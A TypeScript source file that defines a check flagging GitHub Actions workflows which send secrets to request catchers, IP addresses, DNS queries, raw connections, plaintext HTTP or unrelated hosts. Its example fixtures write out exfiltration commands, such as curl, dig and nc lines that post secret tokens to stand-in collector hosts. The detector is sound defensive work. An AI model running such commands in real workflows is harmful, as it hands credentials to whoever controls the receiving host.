import { scriptScopes } from '../../../evidence/parse/workflow/flow/scope.ts';
import { type SentSecret, sentSecrets } from '../../../evidence/parse/workflow/flow/sent-secrets.ts';
import { defineCheck } from '../../define-check.ts';
import { examplesFinding, soundExamples } from '../support/example-groups.ts';
import { jobOn } from '../support/example-workflow.ts';
import { placeOfCommand } from '../support/place.ts';

const REVOKE =
  'Remove the command, find out who added it, and rotate the secret: whoever controls the other end has it.';

export default defineCheck({
  id: 'workflow/secrets/exfiltration',
  title: 'Secrets are sent only to expected hosts, over HTTPS',
  why: 'Attackers who get a change merged, or take over a tool, send the secrets of the job to their own server. Secrets sent over unencrypted connections can be intercepted.',
  needs: ['workflows'],
  problems: {
    collector: {
      severity: 'high',
      likelihood: 'likely',
      message: 'Secret is sent to a request-logging service or to an IP address',
      fix: REVOKE,
    },
    channel: {
      severity: 'high',
      likelihood: 'likely',
      message: 'Secret is sent through a raw connection or a DNS query',
      fix: REVOKE,
    },
    plaintext: {
      severity: 'medium',
      message: 'Secret is sent over an unencrypted connection',
      fix: 'Use the `https:` address of the service, and rotate the secret.',
    },
    foreign: {
      severity: 'low',
      likelihood: 'possible',
      message: 'Secret is sent to a host that does not match its name',
      fix: 'Make sure that the secret belongs to this host. Name the secret after its service, so that reviewers notice a wrong destination.',
    },
  },
  references: [
    'CWE-200',
    'CWE-319',
    'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information',
  ],
  run({ workflows }) {
    return scriptScopes(workflows).flatMap(({ scope, run }) =>
      distinct(sentSecrets(run.value, scope)).map(({ kind, command, host }) => ({
        problem: kind,
        location: placeOfCommand(scope, run, command.text, `run ${command.name} ${host}`),
        evidence: `${command.text.slice(0, 300)}\nTo: ${host}`,
      })),
    );
  },
  examples: () => [
    ...examplesFinding(['collector', 'collector', 'channel', 'channel'], {
      'to a request catcher, an address, a name server and a raw connection': jobOn('push')`
- run: curl -d "t=\${{ secrets.API_TOKEN }}" https://abc123.webhook.site/
- run: echo "$KEY" | base64 | curl --data @- https://203.0.113.9/x
  env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
- run: dig "\${{ secrets.API_TOKEN }}.collect.example"
- run: |
    VALUE="$KEY"
    echo "$VALUE" | nc collect.example 443
  env: { KEY: "\${{ secrets['SIGNING_KEY'] }}" }`,
    }),
    ...examplesFinding(['plaintext', 'foreign', 'foreign'], {
      'unencrypted, and to a host that has nothing to do with it': jobOn('push')`- run: |
    curl -H "Authorization: Bearer \${{ secrets.ACME_TOKEN }}" \\
      http://api.acme.example/deploy
- run: wget --header "X-Key:$KEY" "https://stats.example.com/collect"
  env: { KEY: "\${{ secrets.SIGNING_KEY }}" }
- run: curl -u "x:\${{ github.token }}" https://api.acme-mirror.example`,
    }),
    ...examplesFinding(['foreign'], {
      'to a second host that only begins like the first': jobOn('push')`- run: |
    curl https://hub.vendor.example https://vendor.example.collect.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
    curl https://hub.vendor.example https://api.vendor.example -H "X-Auth: \${{ secrets.VENDOR_KEY }}"
    curl https://s3.vendor.example https://s3.vendor.example.cn -H "X-Auth: \${{ secrets.VENDOR_KEY }}"`,
    }),
    ...soundExamples({
      'to the service it is for, to the own host, to a host that is a secret, and locally': jobOn('push')`- run: |
    curl -H "Authorization: Bearer \${{ secrets.VENDOR_TOKEN }}" https://api.vendor.example/v1
    curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user
    curl -d text=done "$HOOK"
    curl -d "{}" "https://$HOST/hook?token=\${{ secrets.DEPLOY_TOKEN }}"
    curl -H "X-Token: \${{ secrets.DEPLOY_TOKEN }}" http://localhost:8080/
    curl -u "ci:\${{ secrets.PASSWORD }}" https://deploy.acme.example/
    TOKEN=$(curl -s https://api.example/session)
    curl -H "X: $TOKEN" https://api.example/next
    curl -so tool https://tools.example/tool && ./tool "\${{ secrets.DEPLOY_TOKEN }}"
  env:
    HOOK: \${{ secrets.WEBHOOK }}
    GITHUB_TOKEN: \${{ secrets.GITHUB_TOKEN }}
- if: env.HAS == 'true'
  run: curl -d "has=$HAS" https://status.example
  env: { HAS: "\${{ secrets.API_TOKEN != '' }}" }`,
    }),
  ],
});

function distinct(sent: readonly SentSecret[]): SentSecret[] {
  return [...new Map(sent.map((one) => [`${one.host} ${one.command.text}`, one])).values()];
}
